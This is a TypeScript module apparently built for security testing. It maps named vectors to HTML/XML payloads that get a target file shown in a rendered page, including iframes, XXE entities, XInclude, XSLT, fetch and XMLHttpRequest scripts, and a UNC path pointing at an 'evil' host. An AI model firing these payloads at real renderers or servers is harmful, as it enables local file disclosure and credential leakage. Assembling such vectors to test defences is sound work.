/** More ways to have a file shown in a page. */
export const fileVectors: Record<string, (target: string) => string> = {
  'iframe of a file by a data: page': (target) => `<iframe src="data:text/html,<iframe src='${target}'></iframe>"></iframe>`,
  'iframe by view-source': (target) => `<iframe src="view-source:${target}"></iframe>`,
  'iframe by a relative path': (target) => `<base href="${target}"><iframe src="canary.txt"></iframe>`,
  'object of text': (target) => `<object data="${target}" type="text/plain" width=600 height=60></object>`,
  'object of markup': (target) => `<object data="${target}" type="text/html" width=600 height=60></object>`,
  'embed of a drawing': (target) => `<embed src="${target}" type="image/svg+xml" width=600 height=60>`,
  'drawing as a picture': (target) => `<img src="${target}" width=600 height=60>`,
  'drawing in a drawing': (target) => `<svg width=600 height=60><image href="${target}" width=600 height=60 /></svg>`,
  XSLT: (target) => `<?xml-stylesheet type="text/xsl" href="${target}"?><p>x</p>`,
  'entity of a document type': (target) => `<!DOCTYPE html [<!ENTITY x SYSTEM "${target}">]><p>&x;</p>`,
  XInclude: (target) => `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${target}" parse="text"/>`,
  'import of markup': (target) => `<link rel=import href="${target}">`,
  'style sheet of a file': (target) => `<link rel=stylesheet type="text/css" href="${target}"><p>x</p>`,
  'running header of a print': (target) => `<style>@page{@top-center{content:url(${target})}}</style><p>x</p>`,
  'script by fetch': (target) => `<script>fetch('${target}').then(r=>r.text()).then(t=>document.body.append(t))</script>`,
  'script by XMLHttpRequest': (target) =>
    `<script>x=new XMLHttpRequest;x.open('GET','${target}',false);x.send();document.body.append(x.responseText)</script>`,
  'attachment of a PDF': (target) => `<link rel=attachment href="${target}"><a rel=attachment href="${target}">x</a>`,
  'UNC path': (target) => `<img src="\\\\${new URL(target).host || 'evil'}\\x\\y.png">`,
};
